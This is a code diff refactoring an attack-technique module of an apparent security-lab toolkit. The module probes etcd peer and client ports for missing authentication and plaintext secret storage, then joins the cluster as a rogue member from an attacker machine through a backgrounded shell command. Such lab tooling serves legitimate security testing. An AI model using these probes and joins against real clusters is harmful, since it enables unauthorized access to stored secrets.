@@ -13,7 +13,7 @@ import time
 from typing import TYPE_CHECKING
 
 from labkit.errors import ProbeError, ProbeTimeout
-from labkit.model import View
+from labkit.model import Foothold, Model, read_model
 from labkit.techniques._ask import first_refusal, url_of
 from labkit.techniques._base import NETWORK, SECRETS, Prediction, Technique
 from labkit.techniques._etcd import client_channel, keeps_plaintext, takes_anybody
@@ -50,22 +50,22 @@ rm -rf "$dir"
 """
 
 
-def predict(view: View, foothold: str) -> Prediction:
+def predict(model: Model, foothold: Foothold) -> Prediction:
     """Say what the model says: whether members, and etcd, ask who calls; what it keeps."""
-    peers = view.channels(PEERS)[0]
+    peers = model.open_channels(PEERS)[0]
     joins = first_refusal((peers.client_authentication, ("none",)))
-    for prediction in (joins, takes_anybody(view)):
+    for prediction in (joins, takes_anybody(model)):
         if not prediction.succeeds:
             return prediction
-    return keeps_plaintext(view)
+    return keeps_plaintext(model)
 
 
-def execute(lab: Lab, foothold: str) -> Verdict:
+def execute(lab: Lab, foothold: Foothold) -> Verdict:
     """Knock at the members' port and at the clients', and join where both open."""
-    view = View(lab.environment)
+    model = read_model(lab.environment)
     client = client_channel(lab)
     knocks = (
-        ("members' port", url_of(view.channels(PEERS)[0], "/members"), None),
+        ("members' port", url_of(model.open_channels(PEERS)[0], "/members"), None),
         ("clients' port", url_of(client, "/v3/cluster/member/list"), b"{}"),
     )
     evidence: list[str] = []
@@ -83,7 +83,9 @@ def execute(lab: Lab, foothold: str) -> Verdict:
         return _join(lab, foothold, url_of(client, ""), secret, evidence)
 
 
-def _join(lab: Lab, foothold: str, endpoint: str, secret: Secret, evidence: list[str]) -> Verdict:
+def _join(
+    lab: Lab, foothold: Foothold, endpoint: str, secret: Secret, evidence: list[str]
+) -> Verdict:
     folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
     own = f"http://{lab.addresses[attacker(lab)]}:{PORT}"
     start = 'nohup sh -c "$0" join "$@" >/dev/null 2>&1 &'
